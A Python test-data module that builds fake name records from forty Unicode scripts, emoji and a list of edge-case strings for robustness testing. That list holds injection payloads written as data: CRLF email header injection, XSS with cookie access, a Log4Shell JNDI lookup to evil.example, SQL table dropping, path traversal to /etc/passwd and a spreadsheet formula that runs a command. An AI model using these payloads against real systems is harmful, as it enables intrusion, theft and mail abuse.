"""What people are called, and what else stands where a name should: names of forty scripts, and strings that break things."""

import random
from collections.abc import Iterator

SCRIPTS = {
    "LATIN": "Łucja Nguyễn-Ødegård",
    "GREEK": "Ελένη Παπαδοπούλου",
    "CYRILLIC": "Їжакевич Ганна",
    "ARMENIAN": "Անահիտ Սարգսյան",
    "HEBREW": "שרה לוי",
    "ARABIC": "فاطمة الزهراء",
    "SYRIAC": "ܡܪܝܡ ܝܘܚܢܢ",
    "THAANA": "އައިޝަތު",
    "NKO": "ߡߊߡߊߘߎ ߖߊߟߏ",
    "DEVANAGARI": "प्रिया शर्मा",
    "BENGALI": "অনন্যা চট্টোপাধ্যায়",
    "GURMUKHI": "ਹਰਪ੍ਰੀਤ ਕੌਰ",
    "GUJARATI": "કૃષ્ણા પટેલ",
    "ORIYA": "ସୁଭଦ୍ରା ମହାନ୍ତି",
    "TAMIL": "கண்ணன் முருகேசன்",
    "TELUGU": "లక్ష్మి నారాయణ",
    "KANNADA": "ಕಾವ್ಯಾ ಗೌಡ",
    "MALAYALAM": "ശ്രീലക്ഷ്മി നായർ",
    "SINHALA": "නිලූෂි පෙරේරා",
    "THAI": "สมหญิง ใจดี",
    "LAO": "ບຸນມີ ສີສຸພັນ",
    "TIBETAN": "བསྟན་འཛིན་སྒྲོལ་མ",
    "MYANMAR": "အောင်ဆန်း ခင်",
    "GEORGIAN": "ნინო ბერიძე",
    "HANGUL": "김민지",
    "ETHIOPIC": "ጸሐይ ገብረ",
    "CHEROKEE": "ᏣᎳᎩ ᎠᏰᎵ",
    "CANADIAN": "ᐊᓄᕌᖅ ᐃᓄᒃ",
    "OGHAM": "ᚉᚑᚏᚋᚐᚉ",
    "RUNIC": "ᚼᛅᚱᛅᛚᛏᚱ",
    "KHMER": "សុភា ចាន់",
    "MONGOLIAN": "ᠪᠠᠲᠤ",
    "HIRAGANA": "さくら",
    "KATAKANA": "アイリーン",
    "BOPOMOFO": "ㄨㄤˊ",
    "CJK": "龘𠮷野家",
    "YI": "ꆈꌠ ꁱꂷ",
    "TIFINAGH": "ⵜⴰⵏⵉⵔⵜ",
    "COPTIC": "ⲙⲁⲣⲓⲁ",
    "JAVANESE": "ꦱꦿꦶ ꦮꦲꦾꦸꦤꦶ",
    "GOTHIC": "𐍅𐌿𐌻𐍆𐌹𐌻𐌰",
    "ADLAM": "𞤀𞤣𞤤𞤢𞤥",
}
"""By the script, as Unicode names its characters."""

EMOJI = ("👩‍👩‍👧‍👦", "🏳️‍🌈 Pat", "🇩🇪", "Zoë 😀😀😀", "1️⃣", "🤦🏽‍♀️", "☃")

NAUGHTY = (
    "",
    " ",
    "\t",
    "\x00",
    "a\x00b",
    "\r\nBcc: everybody@example.com",
    "Jane\nSubject: another",
    "Jane\r",
    "Jane\r\n\r\n<script>alert(1)</script>",
    "a\u2028b\u2029c",
    "\x85\x0b\x0c\x1b[31m",
    "\ud800 half",
    "\udfff",
    "\ufeffJane",
    "\u202egnp.exe",
    "Z̸̡̛̪a̷͙̓l̵̢͝g̶̼̈́o̴͉̽",
    "\u200b\u200c\u200d",
    '"quoted", comma; semicolon: <angle> (comment) \\ back',
    'a "b" \\"c\\\\',
    "Doe, Jane <jane@evil.example>",
    "=?utf-8?q?=0D=0ABcc:_x@example.com?=",
    "=?utf-8?b?",
    "=_boundary--",
    ".",
    "..",
    "From ",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% for x in y %}",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE lead; --",
    "%s%n%x{0}",
    "../../etc/passwd",
    "=cmd|' /C calc'!A0",
    "NULL",
    "undefined",
    "0",
    "-1e309",
    "ﷺ" * 20,
    "ß" * 300,
    "x" * 2_000,
    "word " * 400,
    "日" * 2_000,
    "😀" * 500,
    "é" + "\u0301" * 200,
    "&amp;&lt;&#0;&#x202E;",
    "\u00a0\u2003Jane\u00a0",
)
"""Control characters, line ends, markup, injections, halves of surrogate pairs, lines of 2,000 characters."""

VALUES = (*SCRIPTS.values(), *EMOJI, *NAUGHTY)


def people(count: int, *, seed: int = 1) -> Iterator[tuple[str, str, str]]:
    """First name, last name and company of *count* people: every value as each of them, then pairs by chance."""
    chance = random.Random(seed)
    for number in range(count):
        first = VALUES[number % len(VALUES)]
        last = VALUES[(number * 7 + number // len(VALUES)) % len(VALUES)]
        yield first, last, chance.choice(VALUES)
